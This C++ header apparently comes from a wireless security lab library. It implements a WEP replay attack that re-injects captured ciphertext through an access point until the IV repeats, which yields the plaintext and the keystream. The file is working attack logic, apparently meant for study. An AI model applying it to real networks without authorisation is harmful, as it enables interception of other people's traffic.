#pragma once

#include <optional>

#include "wavelab/oracle.hpp"
#include "wavelab/wepcrypt.hpp"

namespace wavelab::attacks {

struct ReplayResult {
  Bytes plaintext;
  Keystream keystream;  // full keystream for env.iv, ICV included
  std::size_t injections = 0;
};

/// Pushes the encrypted payload of env back in from the wired side, to be
/// encrypted again by the access point. Once the AP seals under env's IV the
/// two keystreams cancel and the relayed frame carries the original
/// plaintext in its first len-4 octets. Each injection advances the AP's IV
/// source, so a wrapping counter is walked by repeating; `budget` caps it.
inline ReplayResult replay_decrypt(Oracle& oracle, const Mac& bssid, const WepEnvelope& env, std::size_t budget = 1,
                                   std::optional<Mac> dst = std::nullopt) {
  if (env.ciphertext.size() < 4) throw Error(ErrorKind::InvalidFrame, "envelope shorter than ICV");
  const Mac to = dst.value_or(oracle.mac());
  const std::size_t n = env.payload_size();
  Bytes inner(env.ciphertext.begin(), env.ciphertext.begin() + static_cast<std::ptrdiff_t>(n));
  ReplayResult out;
  for (std::size_t attempt = 0; attempt < budget; ++attempt) {
    ++out.injections;
    for (const auto& f : oracle.wired(bssid, to, inner)) {
      if (f.ftype != FrameType::Data || f.src != bssid || f.dst != to || !f.is_wep()) continue;
      const auto& relayed = f.wep();
      if (relayed.ciphertext.size() != env.ciphertext.size() || relayed.iv != env.iv) continue;
      out.plaintext.assign(relayed.ciphertext.begin(), relayed.ciphertext.begin() + static_cast<std::ptrdiff_t>(n));
      out.keystream = Keystream{env.iv, xor_bytes(with_icv(out.plaintext), env.ciphertext)};
      return out;
    }
  }
  throw Error(ErrorKind::IvNeverReused,
              "access point did not reuse the IV within " + std::to_string(budget) + " injections");
}

}  // namespace wavelab::attacks
